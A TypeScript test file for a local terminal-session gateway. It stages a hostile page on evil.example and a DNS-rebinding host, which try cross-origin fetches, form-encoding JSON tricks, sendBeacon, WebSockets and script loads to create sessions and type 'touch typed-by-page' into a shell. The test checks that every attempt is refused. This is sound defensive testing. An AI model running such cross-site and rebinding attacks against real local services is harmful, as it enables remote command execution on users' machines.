/**
 * A browser on a hostile page, against a server without a token: the page's attempts are refused, and responses that it
 * could not read changed nothing either. The foreign names lead to this machine, as after DNS rebinding.
 */
import { afterAll, beforeAll, describe, expect } from "bun:test";
import { Gateway } from "../support/server.ts";
import { until } from "../support/until.ts";
import { isCompiled } from "../support/wsh-program.ts";
import { browserTest, TestBrowser } from "../web/support/browser.ts";

/** The page's attempts, one by one; it reports `{name: outcome}`. Runs in the browser. */
const attack = (target: string, host: string): string => `
const tried = {};
const attempt = async (name, run) => {
  try { tried[name] = await run(); } catch (error) { tried[name] = "error: " + error.message; }
};
const read = async (url, init) => { const r = await fetch(url, init); return r.type === "opaque" ? "opaque" : r.status + " " + (await r.text()).slice(0, 80); };
const json = { method: "POST", headers: { "Content-Type": "application/json" }, body: '{"name":"made-by-page"}' };
const socket = (url) => new Promise((resolve) => {
  const ws = new WebSocket(url);
  ws.onopen = () => { ws.send('{"method":"create_session","params":{"name":"made-by-page"}}'); };
  ws.onmessage = ({ data }) => resolve("heard " + data);
  ws.onclose = ({ code }) => resolve("closed " + code);
});
const form = (enctype, action) => new Promise((resolve) => {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  document.body.append(frame);
  const element = Object.assign(document.createElement("form"), { method: "POST", action, enctype, target: frame.name });
  element.append(Object.assign(document.createElement("input"), { name: '{"name":"made-by-page","x":"', value: '"}' }));
  document.body.append(element);
  frame.onload = () => { let seen; try { seen = frame.contentDocument?.body.innerText; } catch {} resolve("loaded " + (seen ?? "nothing readable")); };
  element.submit();
  setTimeout(() => resolve("no load"), 3000);
});
(async () => {
  await attempt("fetch", () => read("${target}/sessions"));
  await attempt("fetch without cors", () => read("${target}/sessions", { mode: "no-cors" }));
  await attempt("input as text", () => read("${target}/sessions/s/input", { method: "POST", body: "touch typed-by-page\\r", mode: "no-cors" }));
  await attempt("json", () => read("${target}/sessions", json));
  await attempt("delete", () => read("${target}/sessions/s", { method: "DELETE" }));
  await attempt("beacon", async () => "queued " + navigator.sendBeacon("${target}/sessions/s/input", "touch typed-by-page\\r"));
  await attempt("mcp", () => read("${target}/mcp", { method: "POST", mode: "no-cors", body: "{}" }));
  await attempt("form as text", () => form("text/plain", "${target}/sessions"));
  await attempt("form", () => form("application/x-www-form-urlencoded", "${target}/sessions/s/input"));
  await attempt("form with parts", () => form("multipart/form-data", "${target}/sessions/s/input"));
  await attempt("websocket", () => socket("ws://${host}/ws/json"));
  await attempt("raw websocket", () => socket("ws://${host}/sessions/s/ws/raw"));
  await attempt("image", () => new Promise((resolve) => {
    const image = new Image();
    image.onload = () => resolve("loaded");
    image.onerror = () => resolve("error");
    image.src = "${target}/sessions";
  }));
  await attempt("script", () => new Promise((resolve) => {
    const script = document.createElement("script");
    script.onload = () => resolve("loaded");
    script.onerror = () => resolve("error");
    script.src = "${target}/openapi.json";
    document.body.append(script);
  }));
  await fetch("/report", { method: "POST", body: JSON.stringify(tried) });
})();
`;

/** Longest time for a browser to start and to try everything, in ms. */
const BROWSER_MS = 90_000;

describe("a hostile page", () => {
  let gateway: Gateway;
  let browser: TestBrowser;
  beforeAll(async () => {
    if (!isCompiled) return;
    gateway = await Gateway.start({ auth: false });
    await gateway.create({ name: "s" });
    await gateway.shows("s", "$");
    browser = await TestBrowser.start(1, null, false, "MAP *.example 127.0.0.1");
  });
  afterAll(async () => {
    await browser?.[Symbol.asyncDispose]();
    await gateway?.[Symbol.asyncDispose]();
  });

  async function attacked(target: string, host: string): Promise<Record<string, string>> {
    let report: Record<string, string> | null = null;
    const html = `<!doctype html><title>page</title><body><script>${attack(target, host)}</script></body>`;
    await using evil = Bun.serve({
      hostname: "127.0.0.1",
      port: 0,
      async fetch(request) {
        if (new URL(request.url).pathname !== "/report") {
          return new Response(html, { headers: { "Content-Type": "text/html" } });
        }
        report = (await request.json()) as Record<string, string>;
        return new Response(null, { status: 204 });
      },
    });
    const { page } = await browser.page();
    await page.goto(`http://evil.example:${evil.port}/`);
    const tried = await until("the page's report", () => report, BROWSER_MS);
    await browser.closePages();
    return tried;
  }

  /** Nothing was read, and nothing changed. */
  async function unharmed(tried: Record<string, string>): Promise<void> {
    for (const [name, outcome] of Object.entries(tried)) {
      expect(outcome, name).not.toMatch(/^(200|201|204)|heard|^loaded .*"name"/);
    }
    for (const name of ["fetch", "json", "delete"]) expect(tried[name], name).toMatch(/^error|^403/);
    for (const name of ["websocket", "raw websocket"]) expect(tried[name], name).toMatch(/^closed 1006|^error/);
    for (const name of ["image", "script"]) expect(tried[name], name).toBe("error");
    const sessions: { name: string }[] = await (await gateway.unix("/sessions")).json();
    expect(sessions.map(({ name }) => name)).toEqual(["s"]);
    expect(await gateway.screen("s")).not.toContain("typed-by-page");
    const metrics = await (await gateway.unix("/metrics")).text();
    expect(metrics).not.toMatch(
      /wsh_calls_total\{operation="(input\.send|sessions\.create|session\.kill)",interface="(ws|mcp)"/,
    );
  }

  browserTest(
    "on another site",
    async () => {
      const { host } = new URL(gateway.origin);
      const tried = await attacked(gateway.origin, host);
      await unharmed(tried);
      const metrics = await (await gateway.unix("/metrics")).text();
      const refused = Number(/wsh_refused_total\{code="origin_not_allowed"\} (\d+)/.exec(metrics)?.[1] ?? 0);
      expect(refused).toBeGreaterThanOrEqual(10);
    },
    2 * BROWSER_MS,
  );

  browserTest(
    "whose own name was made to lead here",
    async () => {
      const host = `rebind.example:${new URL(gateway.origin).port}`;
      const tried = await attacked(`http://${host}`, host);
      await unharmed(tried);
      const metrics = await (await gateway.unix("/metrics")).text();
      expect(
        Number(/wsh_refused_total\{code="host_not_allowed"\} (\d+)/.exec(metrics)?.[1] ?? 0),
      ).toBeGreaterThanOrEqual(10);
      // As the page itself, too: the same origin by the browser's rules.
      const page = await gateway.tcp("/sessions", { headers: { Host: host, "Sec-Fetch-Site": "none" } });
      expect(await page.text()).toContain("host_not_allowed");
    },
    2 * BROWSER_MS,
  );

  browserTest(
    "while this server's own page is shown as it should be",
    async () => {
      const { page, faults } = await browser.page();
      await page.goto(`${gateway.origin}/docs`);
      const shown = await page.evaluate(() => document.documentElement.outerHTML);
      expect(shown).toContain("WebSocket events");
      expect(faults).toEqual([]);
    },
    2 * BROWSER_MS,
  );
});
